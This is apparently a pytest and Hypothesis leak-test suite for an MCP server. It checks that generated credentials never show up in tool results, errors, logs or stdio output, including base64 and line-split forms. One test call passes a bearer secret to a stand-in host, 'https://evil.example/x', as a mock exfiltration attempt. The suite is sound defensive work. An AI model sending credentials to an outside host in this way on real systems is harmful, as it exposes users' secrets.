"""Credential leaks: hypothesis generates credentials of many shapes, seeds them into accounts
of the session's user, drives every tool (including failing calls and a workflow that echoes
the secrets raw, base64-encoded and split across lines), and scans every tool result, every
error and every log line for any of them in any readable form. Zero occurrences.

One local server, one MCP server and one client session per era serve every example (the
examples run on an event loop in a portal thread); each example deletes its accounts again.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import queue
import secrets as secrets_module
import subprocess
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio.from_thread
import pytest
from hypothesis import HealthCheck, Phase, assume, given, settings
from hypothesis import strategies as st
from mcp import Client, MCPError

from connect_mcp.local.embedded import LocalCredentials
from tests.security.helpers import RedactorState, leaks, secrets_strategy
from tests.server.helpers import Listener, answer, make_server, new_user, text
from tests.support import (
    access_token,
    api_headers,
    backend_env,
    clean_env,
    connect_mcp_executable,
    http,
    seed_account,
)

EXAMPLES = int(os.environ.get("LEAK_EXAMPLES", "150"))


def echo_everything(secrets: list[str]) -> Callable[[dict[str, Any]], tuple[int, dict[str, Any]]]:
    """A careless workflow: echoes the request (with our bearer) and the secrets it can reach,
    raw, base64-encoded, MIME-wrapped base64, and split across lines."""

    def reply(request: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        out: dict[str, Any] = {"request": request}
        for i, secret in enumerate(secrets):
            raw = secret.encode()
            half = len(secret) // 2
            out[f"s{i}"] = {
                "raw": secret,
                "b64": base64.b64encode(raw).decode(),
                "b64url": base64.urlsafe_b64encode(raw).decode().rstrip("="),
                "b64_wrapped": base64.encodebytes(raw).decode(),
                "split": secret[:half] + "\n" + secret[half:],
            }
        status = 500 if request["method"] == "GET" else 200
        return status, out

    return reply


def calls(account: str, other: str, secrets: list[str]) -> list[tuple[str, dict[str, Any]]]:
    s0, s1, s2, s3 = secrets
    return [
        ("list_accounts", {}),
        ("list_accounts", {"app": "openai", "limit": 1}),
        ("get_account", {"account_id": account}),
        ("get_account", {"account_id": other}),
        ("get_account", {"account_id": s0}),
        ("get_account", {"account_id": "apn_doesNotExist1"}),
        ("create_connect_link", {"account_id": account}),
        ("create_connect_link", {"app": s1}),
        ("delete_account", {"account_id": account}),
        ("delete_app_accounts", {"app": "anthropic"}),
        ("delete_user", {}),
        ("invoke_workflow", {"endpoint": "en1abc", "body": {"k": s0, "nested": [s1]}}),
        ("invoke_workflow", {"endpoint": "en1abc", "method": "GET"}),
        ("invoke_workflow", {"endpoint": "en1abc", "auth": "static_bearer", "static_bearer": s3}),
        (
            "invoke_workflow",
            {"endpoint": "https://evil.example/x", "auth": "static_bearer", "static_bearer": s3},
        ),
        ("invoke_workflow", {"endpoint": s2}),
        ("list_apps", {"q": s1[:100]}),
        ("get_app", {"app": s2[:100]}),
        ("get_project_info", {}),
        ("list_accounts", {"cursor": s0[:200], "limit": s1}),
        ("no_such_tool", {"api_key": s0}),
    ]


def _delete_accounts(creds: LocalCredentials, token: str, *accounts: dict[str, Any]) -> None:
    """Clean up an example's accounts (by the API, so the next example starts empty)."""
    for account in accounts:
        http().delete(
            f"{creds.base_url}/v1/connect/{creds.project_id}/accounts/{account['id']}",
            headers=api_headers(creds, token=token),
        )


@pytest.mark.timeout(300)
def test_no_generated_secret_leaves_the_process(
    make_local_server: Callable[..., LocalCredentials], captured_logs: io.StringIO
) -> None:
    creds = make_local_server(account_rate_per_window=10**7, token_rate_per_minute=10**7)
    user = new_user()
    stranger = seed_account(creds, new_user(), "openai", {"api_key": "sk-stranger-0123456789"})
    holder: dict[str, Any] = {"reply": lambda r: (200, {})}
    state = RedactorState()
    counts = {"examples": 0, "calls": 0, "blobs": 0, "secrets": 0, "questions": 0}
    asked: list[str] = []  # every confirmation question the human was shown
    started = time.monotonic()
    with (
        Listener(reply=lambda r: holder["reply"](r)) as host,
        anyio.from_thread.start_blocking_portal() as portal,
        contextlib.ExitStack() as stack,
    ):
        sessions: dict[str, Client] = {}
        for mode in ("auto", "legacy"):
            server = make_server(
                creds,
                user,
                # The careless workflow is one the operator trusts with the project's token.
                client={"workflow_domain": host.netloc, "workflow_oauth_endpoints": ["en1abc"]},
            )
            client = Client(server, mode=mode, elicitation_callback=answer("decline", log=asked))
            sessions[mode] = stack.enter_context(portal.wrap_async_context_manager(client))
        try:
            for c in sessions.values():
                portal.call(c.call_tool, "list_accounts", {})  # fetch the access token once
            state.save()
            token = access_token(creds)

            def drive(secrets: list[str], mode: str) -> list[str]:
                """Seed the secrets, run every call, delete the accounts again; return every
                result, error, log line and question the run produced."""
                state.restore()
                log_start = captured_logs.tell()
                s0, s1, s2, _ = secrets
                work = seed_account(creds, user, "openai", {"api_key": s0, "organization": s1})
                extra = seed_account(creds, user, "anthropic", {"api_key": s2})
                # The workflow echoes the stored credentials (s3, the static bearer, reaches it
                # only as the Authorization header it echoes back: a secret the process never
                # saw cannot be redacted by value, and is not what this tests).
                holder["reply"] = echo_everything(secrets[:3])
                blobs: list[str] = []
                try:
                    for tool, args in calls(work["id"], stranger["id"], secrets):
                        try:
                            result = portal.call(sessions[mode].call_tool, tool, args)
                        except MCPError as exc:
                            blobs.append(str(exc) + repr(exc.error))
                            continue
                        blobs.append(text(result))
                        blobs.append(json.dumps(result.structured_content, ensure_ascii=False))
                        blobs.append(result.model_dump_json())
                        counts["calls"] += 1
                finally:
                    _delete_accounts(creds, token, work, extra)
                blobs.append(captured_logs.getvalue()[log_start:])
                blobs.extend(asked)
                counts["questions"] += len(asked)
                asked.clear()
                return blobs

            # What the same run prints with throwaway secrets: a generated "secret" that is
            # part of it (say "header", which Hypothesis may draw from string constants) would
            # be found without having leaked, so such draws are skipped.
            corpus = [
                blob
                for mode in sessions
                for blob in drive([secrets_module.token_urlsafe(24) for _ in range(4)], mode)
            ]
            counts["calls"] = counts["questions"] = 0

            @settings(
                max_examples=EXAMPLES,
                deadline=None,
                database=None,
                phases=[Phase.generate],  # no shrinking: a failure prints its secrets as is
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
            )
            @given(
                secrets=st.lists(secrets_strategy(), min_size=4, max_size=4, unique=True),
                mode=st.sampled_from(["auto", "legacy"]),
            )
            def example(secrets: list[str], mode: str) -> None:
                assume(not leaks(corpus, secrets))
                blobs = drive(secrets, mode)
                found = leaks(blobs, secrets)
                counts["examples"] += 1
                counts["blobs"] += len(blobs)
                counts["secrets"] += len(secrets)
                assert not found, found

            example()
        finally:
            state.restore()
    assert host.requests, "the echoing workflow was really called"
    # `assume` skips draws the output carries anyway; most draws must still have run.
    assert counts["examples"] >= EXAMPLES // 2, counts
    print(
        f"\n[leaks] {counts['examples']} hypothesis examples, {counts['secrets']} generated "
        f"secrets, {counts['calls']} tool calls (every tool, both eras), {counts['blobs']} "
        f"results/errors/log chunks and {counts['questions']} confirmation questions scanned "
        f"in {time.monotonic() - started:.1f}s: 0 leaks"
    )


# --- the stdio transport: every byte the server process writes ------------------------------


class StdioPeer:
    """A raw JSON-RPC peer for `connect-mcp serve` over stdio that keeps every byte the server
    writes on stdout and stderr, and declines every confirmation it is asked for."""

    def __init__(self, args: list[str], env: dict[str, str]) -> None:
        self.process = subprocess.Popen(
            args, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
        )
        self.stdout = bytearray()
        self.stderr = bytearray()
        self.messages: queue.Queue[dict[str, Any]] = queue.Queue()
        self._next = 0
        threading.Thread(target=self._read_out, daemon=True).start()
        threading.Thread(target=self._read_err, daemon=True).start()

    def _read_out(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            self.stdout += line
            self.messages.put(json.loads(line))

    def _read_err(self) -> None:
        assert self.process.stderr is not None
        for line in self.process.stderr:
            self.stderr += line

    def send(self, message: dict[str, Any]) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(json.dumps({"jsonrpc": "2.0", **message}).encode() + b"\n")
        self.process.stdin.flush()

    def request(self, method: str, params: dict[str, Any]) -> dict[str, Any]:
        self._next += 1
        ident = self._next
        self.send({"id": ident, "method": method, "params": params})
        deadline = time.monotonic() + 30
        while True:
            message = self.messages.get(timeout=max(0.1, deadline - time.monotonic()))
            if message.get("method") == "elicitation/create":
                self.send({"id": message["id"], "result": {"action": "decline"}})
            elif message.get("id") == ident:
                return message

    def close(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait(timeout=10)


def test_no_generated_secret_on_the_stdio_streams(
    make_local_server: Callable[..., LocalCredentials], tmp_path: Path
) -> None:
    creds = make_local_server(account_rate_per_window=10**7, token_rate_per_minute=10**7)
    user = new_user()
    stranger = seed_account(creds, new_user(), "openai", {"api_key": "sk-stranger-0123456789"})
    holder: dict[str, Any] = {"reply": lambda r: (200, {})}
    counts = {"examples": 0, "calls": 0}
    token = access_token(creds)
    with Listener(reply=lambda r: holder["reply"](r)) as host:
        env = {
            **clean_env(),
            **backend_env(creds),
            "PIPEDREAM_WORKFLOW_DOMAIN": host.netloc,
            "CONNECT_MCP_WORKFLOW_OAUTH_ENDPOINTS": "en1abc",
            "CONNECT_MCP_DATA_DIR": str(tmp_path / "data"),
            "CONNECT_MCP_LOG_LEVEL": "debug",
        }
        peer = StdioPeer([connect_mcp_executable(), "serve", "--external-user-id", user], env)
        try:
            init = peer.request(
                "initialize",
                {
                    "protocolVersion": "2025-11-25",
                    "capabilities": {"elicitation": {}},
                    "clientInfo": {"name": "leak-test", "version": "0"},
                },
            )
            assert "result" in init, init
            peer.send({"method": "notifications/initialized"})
            seen: list[str] = []

            def drive(secrets: list[str]) -> None:
                s0, s1, s2, _ = secrets
                work = seed_account(creds, user, "openai", {"api_key": s0, "organization": s1})
                extra = seed_account(creds, user, "anthropic", {"api_key": s2})
                holder["reply"] = echo_everything(secrets[:3])
                try:
                    for tool, args in calls(work["id"], stranger["id"], secrets):
                        peer.request("tools/call", {"name": tool, "arguments": args})
                        counts["calls"] += 1
                finally:
                    _delete_accounts(creds, token, work, extra)

            # The streams of a run with throwaway secrets: draws that occur in them anyway
            # (a word like "header") would be found without having leaked; they are skipped.
            drive([secrets_module.token_urlsafe(24) for _ in range(4)])
            corpus = [bytes(peer.stdout).decode("utf-8", "replace"),
                      bytes(peer.stderr).decode("utf-8", "replace")]  # fmt: skip
            counts["calls"] = 0

            @settings(
                max_examples=8,
                deadline=None,
                database=None,
                phases=[Phase.generate],
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
            )
            @given(secrets=st.lists(secrets_strategy(), min_size=4, max_size=4, unique=True))
            def example(secrets: list[str]) -> None:
                assume(not leaks(corpus, secrets))
                seen.extend(secrets)
                drive(secrets)
                counts["examples"] += 1

            example()
        finally:
            peer.close()
    streams = [peer.stdout.decode("utf-8", "replace"), peer.stderr.decode("utf-8", "replace")]
    assert '"tool_call"' in streams[1]  # the audit log really went to stderr
    assert not leaks(streams, [*seen, creds.client_secret])
    print(
        f"\n[leaks/stdio] one `connect-mcp serve` process: {counts['examples']} examples, "
        f"{len(seen)} secrets, {counts['calls']} tool calls; {len(peer.stdout)} bytes of stdout "
        f"and {len(peer.stderr)} bytes of stderr scanned: 0 leaks"
    )


def test_a_secret_split_across_lines_is_still_masked() -> None:
    """The redactor's line-break pass (found by the generated test above): a secret folded
    across lines, raw or MIME-wrapped base64, real or JSON-escaped breaks."""
    from connect_mcp.redact import REDACTED, Redactor

    redactor = Redactor()
    secret = "sk-" + "A1b2C3d4e5" * 12
    redactor.add(secret)
    wrapped = base64.encodebytes(secret.encode()).decode()
    cases = [
        secret[:10] + "\n" + secret[10:],
        secret[:10] + "\r\n" + secret[10:50] + "\n" + secret[50:],
        "before " + wrapped + " after",
        json.dumps({"body": wrapped}),
        json.dumps({"split": secret[:7] + "\n" + secret[7:]}),
    ]
    for case in cases:
        out = redactor.scrub(case)
        assert REDACTED in out
        assert not leaks([out], [secret]), out
    assert redactor.scrub("line one\nline two\\n") == "line one\nline two\\n"
    print(f"\n[leaks/split] {len(cases)} folded forms masked")
